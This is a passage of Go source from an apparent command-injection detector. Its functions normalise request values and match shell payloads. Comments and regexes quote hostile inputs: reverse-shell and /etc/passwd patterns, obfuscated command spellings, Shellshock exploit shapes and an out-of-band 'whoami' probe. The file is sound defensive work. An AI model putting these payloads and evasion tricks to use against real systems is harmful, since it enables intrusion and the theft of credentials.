				strong = strings.HasPrefix(a, "/") && len(a) > 1 || strings.HasPrefix(a, "~/")
			case cmdNet[cmd]:
				strong = hostArg(a)
			}
			strong = strong || systemDir(a)
			break
		}
	}
	if !strong {
		return false
	}
	report(&ruleCmdi, "command line "+snippet(strings.TrimSpace(line)))
	return true
}

// cmdReverseShell matches arguments no script in a text field has: reverse
// shells and password file reads.
var cmdReverseShell = regexp.MustCompile(`/dev/tcp/|/etc/(?:passwd|shadow)\b|\s-e\s+/bin/|^\s+-i\s+>&`)

// mailCmdAlone reports whether f, holding a mailCmdWeak match, is that
// command alone on a line of its own ("\r\nQUIT"): a message that mentions
// "Data" on a line has other lines, and does not start with a line break.
// In XML a word between line breaks is how pretty-printing writes element
// text ("<category>\n  Data\n</category>"), so there the command must end
// the text.
func mailCmdAlone(p *decoders.Param, f string) bool {
	t := strings.TrimLeft(f, " \t")
	if t == "" || t[0] != '\r' && t[0] != '\n' {
		return false
	}
	if p.Loc == decoders.LocXML && strings.ContainsAny(t[len(strings.TrimRight(t, " \t\r\n")):], "\r\n") {
		return false
	}
	t = strings.TrimSpace(t)
	return !strings.ContainsAny(t, "\r\n") && mailCmdWeak.MatchString("\n"+t)
}

func matchCmdi(p *decoders.Param, v *normalize.Value, report reportFunc) {
	if f := v.Fold; strings.ContainsAny(f, "\r\n") {
		m := mailCmd.FindString(f)
		if m == "" {
			m = mailIMAPItems.FindString(f)
		}
		if m == "" {
			if m = mailCmdWeak.FindString(f); m != "" && inBody(p) && !mailCmdAlone(p, f) {
				m = ""
			}
		}
		if m != "" {
			report(&ruleMailCmd, "mail command "+snippet(strings.TrimSpace(m)))
		}
	}
	scan := func(s string) bool {
		if winHint(s) {
			if m := winShell.FindString(s); m != "" {
				report(&ruleCmdi, "windows command "+snippet(strings.TrimSpace(m)))
				return true
			}
		}
		if m := matchShellConstruct(s); m != "" {
			report(&ruleCmdi, "shell construct "+snippet(strings.TrimSpace(m)))
			return true
		}
		if cmdAtStart(p, s, report) {
			return true
		}
		if cmdiScan(p, s, report) {
			return true
		}
		if m := aliasCmd(s); m != "" {
			report(&ruleCmdi, "shell alias "+snippet(strings.TrimSpace(m)))
			return true
		}
		if m := braceCmd(s); m != "" {
			report(&ruleCmdi, "brace expansion "+snippet(m))
			return true
		}
		if strings.ContainsAny(s, "'\"\\$<>") {
			if m := splitCmd(s); m != "" {
				report(&ruleCmdi, "split command name "+snippet(m))
				return true
			}
		}
		if d := deshell(s); d != s {
			// A brace expansion that spells a command once split
			// ({n$u\c$u,-nlvp,777}).
			if strings.IndexByte(d, '{') >= 0 {
				if m := braceList.FindString(d); m != "" {
					report(&ruleCmdi, "shell construct "+snippet(m))
					return true
				}
			}
			return cmdAtStart(p, d, report) || cmdiScan(p, d, report)
		}
		return false
	}
	// A short value with '+' for every space (";+cat+/etc/passwd") is
	// read with spaces too, as an application that decodes it once more
	// would; long ones are base64 or prose, not commands. The text says
	// so: folding turns comments ("/*wd") into spaces.
	plus := len(v.Text) <= maxPlusCmd && plusForSpace(v.Text)
	forms(v, func(s string) bool {
		if scan(s) || plus && strings.IndexByte(s, '+') >= 0 && scan(strings.ReplaceAll(s, "+", " ")) {
			return true
		}
		c := shellSimplify(cleanCmdPaths(s))
		return c != s && scan(c)
	})
	if f := v.Fold; strings.IndexByte(f, '-') >= 0 && argInjectionHint(f) {
		if m := argInjection.FindString(f); m != "" {
			report(&ruleArgInjection, "option "+snippet(strings.TrimSpace(m)))
		}
	}
	if m := substWhole(v.Text); m != "" {
		report(&ruleCmdi, "command substitution "+snippet(m))
	} else if shellshock.MatchString(v.Fold) && (p.Loc == decoders.LocHeader || p.Loc == decoders.LocCookie || shellshockRun.MatchString(v.Fold)) {
		report(&ruleCmdi, "shell function definition "+snippet(strings.TrimSpace(v.Fold)))
	}
}

// cleanCmdPaths returns s with every absolute path that starts a shell
// word resolved as the kernel resolves it: ";//bin/id", ";/usr/local//bin/
// kubectl", ";/bin/./id" and "cat //etc//passwd" name /bin/id, kubectl and
// /etc/passwd, which the checks read only in their plain spelling. A word
// starts after a space, a separator or an opening bracket or quote, so a
// URL's "//" (after a colon) stays. s itself is returned when no such path
// needs it, the common case: most values with "//" hold it in a URL.
func cleanCmdPaths(s string) string {
	if strings.IndexByte(s, '/') < 0 || !strings.Contains(s, "//") && !strings.Contains(s, "/.") {
		return s
	}
	var b strings.Builder
	last := 0
	for i := 0; i < len(s); i++ {
		if s[i] != '/' || i > 0 && strings.IndexByte(" \t\r\n;&|`({'\"=,", s[i-1]) < 0 {
			continue
		}
		j := i + 1
		for j < len(s) && strings.IndexByte(" \t\r\n;&|`)}'\"<>,", s[j]) < 0 {
			j++
		}
		word := s[i:j]
		if strings.Contains(word, "//") || strings.Contains(word, "/./") || strings.Contains(word, "/../") || strings.HasSuffix(word, "/.") {
			if b.Len() == 0 {
				b.Grow(len(s))
			}
			b.WriteString(s[last:i])
			clean := path.Clean(word)
			if strings.HasSuffix(word, "/") && clean != "/" {
				clean += "/"
			}
			b.WriteString(clean)
			last = j
		}
		i = j - 1
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// shellSimplify returns s with what may stand between a separator and the
// command it starts taken out: a subshell's or a group's opening
// ("; (id)", "|(sleep 5)", "; { id; }"), a negation ("; ! id") and the
// keywords of compound commands ("; then sleep 5", "; do id"), which
// cmdSep does not read. s itself when there is none.
func shellSimplify(s string) string {
	// Only where an injection starts: at the value's first separator,
	// after one token or none ("1;if true;then id;fi", ";(id)"). A script
	// or a sentence has words before it ("if [ -f x ]; then ls; fi",
	// "make build && (cd dist; ls)", "Employee number; (ID) …").
	first := strings.IndexAny(s, ";&|\n")
	if first < 0 {
		return s
	}
	prefix := strings.TrimSpace(s[:first])
	if strings.ContainsAny(prefix, " \t\n\r") {
		return s
	}
	// After a host, an address or a file name, or nothing, the blank
	// after the separator and a line break count too ("127.0.0.1; (id)",
	// "; { id; }", "127.0.0.1\n(id)"): words are what prose has before.
	hostLike := prefix == "" || strings.ContainsAny(prefix, ".0123456789")
	var b strings.Builder
	last := 0
	for i := first; i < len(s); i++ {
		// After a line break only when hostLike: text goes on with
		// "(see …)" and "do you …".
		switch s[i] {
		case ';', '&', '|':
		case '\n':
			if !hostLike {
				continue
			}
		default:
			continue
		}
		j := i + 1
		for j < len(s) && (s[j] == '&' || s[j] == '|') {
			j++
		}
		k, skipped := j, false
		// What is skipped is glued to the separator (";(id)",
		// ";then sleep 5"): a table's "| (ID)" and "; do you" have a
		// blank between.
		if j < len(s) && (s[j] == ' ' || s[j] == '\t') && !hostLike {
			i = j - 1
			continue
		}
		for {
			for k < len(s) && (s[k] == ' ' || s[k] == '\t') {
				k++
			}
			if k < len(s) && (s[k] == '(' || s[k] == '{' || s[k] == '!') {
				k, skipped = k+1, true
				continue
			}
			if w := shellKeywordAt(s, k); w > 0 {
				k, skipped = k+w, true
				continue
			}
			break
		}
		if !skipped || k >= len(s) {
			i = j - 1 // past the run of separators: each is read once
			continue
		}
		b.WriteString(s[last:j])
		b.WriteByte(' ')
		last, i = k, k-1
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// shellKeywordAt returns the length of the compound command keyword and
// the space after it at s[i:] (then, else, elif, do), or 0.
func shellKeywordAt(s string, i int) int {
	for _, w := range [...]string{"then", "else", "elif", "do"} {
		if strings.HasPrefix(s[i:], w) && i+len(w) < len(s) && (s[i+len(w)] == ' ' || s[i+len(w)] == '\t') {
			return len(w) + 1
		}
	}
	return 0
}

// maxPlusCmd bounds the values read with '+' for spaces.
const maxPlusCmd = 256

// shellshock is a value that starts a Bash function definition, which a
// vulnerable Bash runs the rest of when it is passed in the environment
// (CVE-2014-6271): a header through CGI, any parameter an application
// exports. No header value starts so otherwise. In other parameters, where
// code snippets ("() { return 1 }") are values, the definition must end
// and a command or a redirection follow it, the exploit's shapes
// ("() { :; }; /bin/id", CVE-2014-6278's "() { _; } >_[$($())] { id; }"):
// shellshockRun; a redirection only after a body without braces, as JSX
// ("() { return <ul>{items}</ul> }") has '<' after an inner one.
var shellshockRun = regexp.MustCompile(`^\s*\(\s*\)\s*\{(?:[^}]{0,64}\}\s*;|[^{}]{0,64}\}\s*[<>])\s*\S`)

var shellshock = regexp.MustCompile(`^\s*\(\s*\)\s*\{`)

// substWhole returns a value that is one command substitution of a known
// command ($(cmd), $(reboot)), which a shell runs, or "". Makefile and CI
// variables ($(CC), $(tag), $(Build.SourcesDirectory)) name no command, and
// the command must be in lower case.
func substWhole(text string) string {
	t := strings.TrimSpace(text)
	if len(t) < 4 || !strings.HasPrefix(t, "$(") || t[len(t)-1] != ')' {
		return ""
	}
	w := t[2 : len(t)-1]
	if w == "" || w[0] < 'a' || w[0] > 'z' || len(w) > 32 {
		return ""
	}
	for i := 0; i < len(w); i++ {
		if c := w[i]; !('a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '-' || c == '_') {
			return ""
		}
	}
	if !knownCmd(canonCmd(w)) {
		return ""
	}
	return t
}

// braceCmd returns the word at a command position (the value's start, or
// after ; | &) whose brace expansion starts with a known command split by
// the braces: {l,-lh}s expands to "ls -lhs", c{a,oun}t to "cat count".
// The braces must have text glued on a side; {cat,/etc/passwd} is
// shellConstruct's.
func braceCmd(s string) string {
	if strings.IndexByte(s, '{') < 0 {
		return ""
	}
	for start, end := range cmdWords(s, ";|&") {
		if w := s[start:end]; len(w) < 32 {
			if i := strings.IndexByte(w, '{'); i >= 0 {
				if j := strings.IndexByte(w[i:], '}'); j > 0 {
					body, pre, suf := w[i+1:i+j], w[:i], w[i+j+1:]
					if c := strings.IndexByte(body, ','); c > 0 && strings.IndexByte(body, '{') < 0 && pre+suf != "" &&
						knownCmd(pre+body[:c]+suf) {
						return w
					}
				}
			}
		}
	}
	return ""
}

// splitCmd returns the command line at a command position (the value's
// start, or after ; | & or a line break) whose command is a known one with
// its name split so that only a shell reassembles it (see deliberateSplit):
// una$$me -a, uname$u -a, ""p""y""t""h""o""n""3, pi<()ng host,
// x;c$@at /etc/passwd; or "". Whatever its arguments, no text spells a
// command so.
func splitCmd(s string) string {
	for start, end := range cmdWords(s, ";|&\r\n") {
		// The name ends at a path's slash, an assignment or a '+'
		// (a space in form encoding), after an optional /bin/ path.
		w := trimBinDir(s[start:end])
		if k := strings.IndexAny(w, "/+="); k >= 0 {
			w = w[:k]
		}
		if deliberateSplit(w) && knownCmd(canonCmd(shellNoise.Replace(dropWordVars(w)))) &&
			(!endsWithVar(w) || hasArg(s[end:])) {
			return s[start:min(len(s), end+40)]
		}
	}
	return ""
}

// cmdWords yields the start and end of each word of s at a command
// position: the start of s, or after a byte of seps.
func cmdWords(s, seps string) iter.Seq2[int, int] {
	return func(yield func(int, int) bool) {
		for start := 0; start < len(s); {
			for start < len(s) && (s[start] == ' ' || s[start] == '\t') {
				start++
			}
			end := start
			for end < len(s) && strings.IndexByte(" \t\r\n;|&", s[end]) < 0 {
				end++
			}
			if !yield(start, end) {
				return
			}
			k := strings.IndexAny(s[end:], seps)
			if k < 0 {
				return
			}
			start = end + k + 1
		}
	}
}

// endsWithVar reports a word that ends with a variable ($u in uname$u),
// which a password or a price has too (ps$word): such a word counts as a
// split command only with an argument after it.
func endsWithVar(w string) bool {
	i := strings.LastIndexByte(w, '$')
	if i <= 0 || w[i-1] == '$' || i+1 == len(w) {
		return false // none, or $$, the process ID
	}
	n := strings.TrimSuffix(strings.TrimPrefix(w[i+1:], "{"), "}")
	// $_ is a special parameter, dropped with what follows kept.
	return isShellName(n) && n[0] != '_'
}

// hasArg reports whether rest, what follows a command word, starts with an
// argument before any separator.
func hasArg(rest string) bool {
	t := strings.TrimLeft(rest, " \t")
	return len(t) < len(rest) && t != "" && strings.IndexByte(";|&\r\n", t[0]) < 0
}

// deliberateSplit reports a word broken up the way no text is: an empty
// quote pair or substitution (p""y, pi<()ng), an expansion inside the word
// (una$$me, uname$u), a backslash between letters (wh\oami), or two
// quotes between letters (c'a't; one is an apostrophe).
func deliberateSplit(w string) bool {
	if strings.Contains(w, `""`) || strings.Contains(w, "''") || strings.Contains(w, "<()") || strings.Contains(w, ">()") {
		return true
	}
	quotes := 0
	for i := 1; i < len(w); i++ {
		prev := w[i-1]
		inWord := 'a' <= prev && prev <= 'z' || '0' <= prev && prev <= '9'
		switch c := w[i]; {
		case c == '$' && inWord:
			return true
		case c == '\\' && inWord && i+1 < len(w) && 'a' <= w[i+1] && w[i+1] <= 'z':
			return true
		case (c == '\'' || c == '"') && inWord && i+1 < len(w) && 'a' <= w[i+1] && w[i+1] <= 'z':
			quotes++
		}
	}
	return quotes >= 2
}

// shellNoise holds the characters a shell drops inside a word, which
// payloads use to break up command names: w'h'o"am"i, wh\oami, who$@ami,
// and the special parameters and empty substitutions that expand to
// nothing or are there to split a word (c$*at, c$!at, ping$() host,
// pi<()ng, and c$$at, where the process ID stands for nothing).
var shellNoise = strings.NewReplacer("'", "", "\"", "", "\\", "", "$$", "", "$@", "", "$*", "", "$!", "", "$?", "",
	"$-", "", "$_", "", "$()", "", "${}", "", "``", "", "<()", "", ">()", "")

func deshell(s string) string {
	// Quotes and backslashes in a value without a separator or a
	// substitution run no command.
	empty := strings.Contains(s, "<()") || strings.Contains(s, ">()")
	if !empty && (!strings.ContainsAny(s, "'\"\\$`") || !strings.ContainsAny(s, ";|&\n\r`$") && !quoteInWord(s)) {
		return s
	}
	return shellNoise.Replace(dropWordVars(s))
}

// dropWordVars removes the variables expanded inside a word ($u in uname$u
// -a, ${x} in c${x}at, $v in cu$v\rl): an unset one expands to nothing, and
// payloads use them to split command names. A variable that starts a word
// may be the command itself and stays.
func dropWordVars(s string) string {
	i := strings.IndexByte(s, '$')
	if i < 0 {
		return s
	}
	var b strings.Builder
	last := 0
	for ; i >= 0 && i+1 < len(s); i = nextDollar(s, i+1) {
		if i == 0 || !isAlnum(s[i-1]) {
			continue
		}
		j := i + 1
		switch c := s[j]; {
		case c == '{':
			// Scanning the name, not for the '}', keeps "a${a${…" linear.
			e := j + 1
			for e < len(s) && wordChar(s[e]) {
				e++
			}
			if e == j+1 || e == len(s) || s[e] != '}' {
				continue
			}
			j = e + 1
		case '0' <= c && c <= '9':
			j++
		case 'a' <= c && c <= 'z':
			// $_ is a special parameter; shellNoise drops it.
			for j < len(s) && wordChar(s[j]) {
				j++
			}
		default:
			continue
		}
		b.WriteString(s[last:i])
		last = j
	}
	if last == 0 {
		return s
	}
	b.WriteString(s[last:])
	return b.String()
}

// nextDollar returns the index of the next '$' in s at or after i, or -1.
func nextDollar(s string, i int) int {
	k := strings.IndexByte(s[i:], '$')
	if k < 0 {
		return -1
	}
	return i + k
}

// isShellName reports a shell variable name.
func isShellName(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if !wordChar(s[i]) {
			return false
		}
	}
	return true
}

// dotAfterSemicolon is the SQLite dot-command pattern's prefilter: a dot
// after a semicolon, spaces and line feeds, literal or escaped ("1;.sh",
// ";\\n. shell").
func dotAfterSemicolon(s string) bool {
	for i := strings.IndexByte(s, ';'); i >= 0; {
		j := i + 1
		for j < len(s) {
			if s[j] == ' ' || s[j] == '\n' || s[j] == '\r' {
				j++
			} else if s[j] == '\\' && j+1 < len(s) && s[j+1] == 'n' {
				j += 2
			} else {
				break
			}
		}
		if j < len(s) && s[j] == '.' {
			return true
		}
		k := strings.IndexByte(s[j:], ';')
		if k < 0 {
			return false
		}
		i = j + k
	}
	return false
}

// quoteInWord reports whether a quote sits between two letters or after
// another quote inside a word (ti”me, c'a't, /bin/ca't'): quote splitting
// that hides a command name even without a separator.
func quoteInWord(s string) bool {
	for i := 1; i+1 < len(s); i++ {
		if (s[i] == '\'' || s[i] == '"') && 'a' <= s[i-1] && s[i-1] <= 'z' && (s[i+1] == s[i] || 'a' <= s[i+1] && s[i+1] <= 'z') {
			return true
		}
	}
	return false
}

// knownAfterSep is cmdSep's cheap prefilter: whether a known command
// follows a separator anywhere in s (cmdSubstOnly's only in a
// substitution, as cmdiHit counts them).
func knownAfterSep(s string) bool {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ';', '&', '|', '\n', '\r', '`':
		case '$':
			if i+1 >= len(s) || s[i+1] != '(' {
				continue
			}
			i++
		default:
			continue
		}
		subst := s[i] == '(' || s[i] == '`'
		j := i + 1
		for j < len(s) && strings.IndexByte(" \r\n;&|", s[j]) >= 0 {
			j++
		}
		// Each separator in the run skipped leads to the same word: going
		// back to them would make a run of separators quadratic.
		i = j - 1
		w := s[j:]
		for _, pre := range []string{"/usr", "/bin/", "/sbin/"} {
			w = strings.TrimPrefix(w, pre)
		}
		if len(w) > 2 && w[1] == ':' {
			w = w[2:]
		}
		k := 0
		for k < len(w) && ('a' <= w[k] && w[k] <= 'z' || '0' <= w[k] && w[k] <= '9' || w[k] == '.' || w[k] == '-' && k > 0) {
			k++
		}
		if cmd := canonCmd(w[:k]); knownCmd(cmd) || cmdWordArgs[cmd] != nil || subst && cmdSubstOnly[cmd] {
			return true
		}
	}
	return false
}

func cmdiScan(p *decoders.Param, s string, report reportFunc) bool {
	if strings.Contains(s, "/usr/local/") {
		// cmdSep reads /usr/bin/ and /bin/ before a command; a longer
		// prefix in its expression cost every value a third more.
		s = strings.ReplaceAll(s, "/usr/local/", "/usr/")
	}
	if !knownAfterSep(s) {
		return false
	}
	for _, m := range cmdSep.FindAllStringSubmatchIndex(s, 8) {
		if cmdiCandidate(p, s, m, report) {
			return true
		}
	}
	// A substitution inside what a separator's match took as the rest of
	// its line (";x=$(whoami)", ";str=$(echo …)"): each looked at from
	// its own start.
	n := 0
	for i := 0; i < len(s) && n < 8; i++ {
		if s[i] != '`' && (s[i] != '$' || i+1 >= len(s) || s[i+1] != '(') {
			continue
		}
		n++
		if m := cmdSep.FindStringSubmatchIndex(s[i:]); m != nil && m[0] == 0 {
			for k := range m {
				m[k] += i
			}
			if cmdiCandidate(p, s, m, report) {
				return true
			}
		}
		if s[i] == '$' {
			i++
		}
	}
	return false
}

// cmdiCandidate decides one cmdSep match m of s and reports it.
func cmdiCandidate(p *decoders.Param, s string, m []int, report reportFunc) bool {
	sep, cmd, rest := s[m[2]:m[3]], canonCmd(s[m[4]:m[5]]), s[m[6]:m[7]]
	if !cmdiHit(s, m[2], sep, cmd, rest, s[m[6]:], m[3] == m[4], p) {
		return false
	}
	report(&ruleCmdi, "shell command "+strings.TrimSpace(snippet(s[m[2]:m[7]])))
	return true
}

// cmdiHit decides one separator-command candidate found at offset at of s;
// tail is s after the command name, and glued is whether the command
// follows the separator without a space.
func cmdiHit(s string, at int, sep, cmd, rest, tail string, glued bool, p *decoders.Param) bool {
	known := cmdAlone[cmd] || cmdFile[cmd] || cmdExec[cmd] || (sep == "$(" || sep == "`") && cmdSubstOnly[cmd]
	if !known {
		return toolHit(s, at, sep, cmd, rest, tail, glued)
	}
	// The command name must end the shell word: ";base64,iVBOR" (a data:
	// URL's media type parameter) or "&echo=1" run nothing.
	if rest != "" && strings.IndexByte(" \t<>)$'\"\\{`", rest[0]) < 0 {
		return false
	}
	switch sep {
	case "$(", "`":
		closer := ")"
		if sep == "`" {
			closer = "`"
		}
		if !strings.Contains(s[at+len(sep):], closer) {
			return false
		}
		// Inline code in prose ("run `ls -la`", "use $(pwd)") and
		// Markdown fences sit among words; an injection sticks to the
		// value or starts it, or builds a host name a network command
		// looks up ("nslookup `whoami`.x.oast.example": oastSubst).
		if at > 0 && (s[at-1] == '`' || sep == "`" && s[at-1] == ' ' && !oastSubst(s, at, cmd)) {
			return false
		}
		// "$(cmd)" and "`cmd`" name a placeholder in prose: a
		// substitution counts with a recon command or with arguments.
		if inner, _, _ := strings.Cut(rest, closer); !cmdAlone[cmd] && strings.TrimSpace(inner) == "" {
			return false
		}
		// In a body field, a word before it must be the command the
		// substitution feeds ("ping $(whoami).x"), not prose ("Use
		// $(pwd) to …").
		prefix := strings.TrimSpace(s[:at])
		return !inBody(p) || !strings.ContainsAny(prefix, " \n") && (at == 0 || s[at-1] != ' ' || knownCmd(canonCmd(prefix)))
	}
	if sep == "&" && strings.ContainsAny(s[:at], "=?") {
		// A URL's query string ("/p?debug&env") inside a value.
		return false
	}
	rest = strings.TrimRight(rest, " #")
	// A ')' ends a subshell the command ran in (";(id)"), and only
	// blanks, another ')' or a separator may follow it ("; (ID) must be
	// 6 digits" is a sentence).
	argless := rest == "" || strings.TrimLeft(rest, " ") == "" || isFlags(rest) ||
		closesSubshell(rest) && !strings.ContainsAny(strings.TrimSpace(s[:at]), " \t\n")

	strong := cmd == "whoami" || cmdStrongArg.MatchString(rest) && (cmdFile[cmd] || cmdExec[cmd])
	if cmdAlone[cmd] && argless {
		strong = true
	}
	if strong {
		// A line break is how multi-line text continues; only the
		// strongest forms count after one in a body field.
		if sep[0] == '\r' || sep[0] == '\n' {
			return !inBody(p) || cmd == "whoami" || cmdReverseShell.MatchString(rest)
		}
		return true
	}
	if sep[0] == '\r' || sep[0] == '\n' || argless {
		return false
	}
	if !(cmdFile[cmd] && fileArg(rest) || cmdExec[cmd]) {
		return false
	}
	// A weaker form counts when what precedes the separator is one token
	// (a host, a file name): "127.0.0.1; ping x". A shell line in a text
	// field ("npm ci && curl …") has words before it.
	prefix := strings.TrimSpace(s[:at])
	return !strings.ContainsAny(prefix, " \n")
}

// toolHit decides a candidate whose command is an administration tool
// (adminCmd) or an English word that is a command with the arguments of
// cmdWordArgs. Either counts after a separator, not a line break or a
// substitution, with at most one token before it (a host, a file name),
// as cmdiHit's weaker forms.
func toolHit(s string, at int, sep, cmd, rest, tail string, glued bool) bool {
	if sep[0] == '\r' || sep[0] == '\n' {
		return false
	}
	prefix := strings.TrimSpace(s[:at])
	if strings.ContainsAny(prefix, " \n") {
		return false
	}
	if sep == "$(" || sep == "`" {
		// An administration tool substituted with its arguments, at the
		// start of the value or glued to the one token before it
		// ("$(kubectl get secrets -A)", "x`crictl ps`"): prose quotes a
		// command after a space ("Run `kubectl get pods`") or as the
		// whole value, a Markdown code span, and a script assigns its
		// output ("PODS=$(kubectl get pods -o name)").
		closer := ")"
		if sep == "`" {
			closer = "`"
		}
		inner, closed := strings.CutSuffix(strings.TrimRight(tail, " "), closer)
		if !closed {
			inner, _, closed = strings.Cut(tail, closer)
		}
		return closed && adminCmd(cmd) && glued && strings.TrimSpace(inner) != "" &&
			strings.IndexByte(" \t", inner[0]) >= 0 && (at == 0 && sep == "$(" || at > 0 && s[at-1] != ' ' && s[at-1] != '`' && s[at-1] != '=')
	}
	query := sep == "&" && strings.ContainsAny(s[:at], "=?")
	if adminCmd(cmd) {
		if sep == "|" && (!glued || strings.TrimSpace(rest) == "" || rest[0] != ' ') {
			// A Markdown table's cell ("| kubectl | 1.29 |"); glued to
			// the pipe and with arguments, the tool runs
			// ("a|kubectl get secrets -A").
			return false
		}
		// The name must end the shell word; cmd.exe takes a switch
		// glued to it. After a query string's '&' it needs arguments:
		// "a=1&reboot" is a flag parameter.
		if rest != "" && strings.IndexByte(" \t<>'\"", rest[0]) < 0 && !(rest[0] == '/' && winAdmin[cmd]) {
			return false
		}
		if strings.TrimSpace(rest) != "" {
			return true
		}
		// Without arguments it must follow nothing, a prefix command
		// (time; visudo) or a host, number or file name (1.2.3.4;reboot):
		// "python;ansible" is a list of tags, "a=1&reboot" a flag
		// parameter.
		return !query && (prefix == "" || cmdPrefix[prefix] || strings.ContainsAny(prefix, ".0123456789"))
	}
	// An English word is a command only glued to the separator: prose
	// puts a space after punctuation. One without arguments must not
	// follow a word either (absolute;top is CSS).
	re := cmdWordArgs[cmd]
	if re == nil || !glued || query || !re.MatchString(tail) {
		return false
	}
	return strings.TrimSpace(rest) != "" || at == 0 || !('a' <= s[at-1] && s[at-1] <= 'z')
}

// cmdWordArgs maps the commands that are English words to the arguments
// that make them a command: set and top alone (they print the shell's
// variables and the processes), date reading a file (its error messages
// print the file's lines), at with a time and the command it queues, trap
// with a quoted command (which may hold separators) and a signal, ex
// running a shell command (:!cmd), perf with a flag. They match the rest
// of the value after the name.
var cmdWordArgs = map[string]*regexp.Regexp{
	"set":  regexp.MustCompile(`^\s*(?:$|[;&|\r\n])`),
	"top":  regexp.MustCompile(`^\s*(?:$|[;&|\r\n])`),
	"date": regexp.MustCompile(`^\s+(?:-\w*f|--file)(?:\s+|=)\S`),
	"at":   regexp.MustCompile(`^\s+(?:now|noon|midnight|teatime|\d{1,2}(?::\d\d)?\s*(?:am|pm)?)\s*(?:['"<]|-f\s)`),
	"trap": regexp.MustCompile(`^\s+(?:'[^']*'|"[^"]*")\s+(?:sig)?(?:exit|int|term|hup|err|debug|return|quit|usr[12]|chld|alrm|\d{1,2})\b`),
	"ex":   regexp.MustCompile(`^[^;&|\r\n]*?(?:[:\\]|-c\s*['"]?)!\s*[a-z/]`),
	"perf": regexp.MustCompile(`^\s+-`),
}

func isFlags(rest string) bool {
	f := strings.Fields(rest)
	for _, w := range f {
		// A flag with its value glued in quotes carries code
		// (ruby -e'…', perl -e"…").
		if !strings.HasPrefix(w, "-") || strings.ContainsAny(w, "'\"") {
			return false
		}
	}
	return len(f) > 0
}

// oastSubst reports a backquoted substitution at s[at] whose output is
// glued to a domain ("`whoami`.x.oast.example"), as an out-of-band probe
// sends it: the closing backquote is followed by '.' and a letter.
func oastSubst(s string, at int, cmd string) bool {
	end := strings.IndexByte(s[at+1:], '`')
	if end < 0 || !knownCmd(cmd) {
		return false
	}
	after := s[at+1+end+1:]
	return len(after) >= 2 && after[0] == '.' && ('a' <= after[1] && after[1] <= 'z' || '0' <= after[1] && after[1] <= '9')
}

// closesSubshell reports a command's rest that closes the subshell it ran
// in and nothing else: ')' after blanks, then blanks, ')' or the end.
func closesSubshell(rest string) bool {
	t := strings.TrimLeft(rest, " \t")
	return t != "" && t[0] == ')' && strings.Trim(t, " \t)") == ""
}

// fileArg reports an argument that names a file: a path or a dotted name.
func fileArg(rest string) bool {
	for _, w := range strings.Fields(rest) {
		if strings.HasPrefix(w, "-") {
			continue
		}
		return strings.ContainsAny(w[:1], "/.~\\$") || strings.Contains(w, "/")
	}
	return false
}
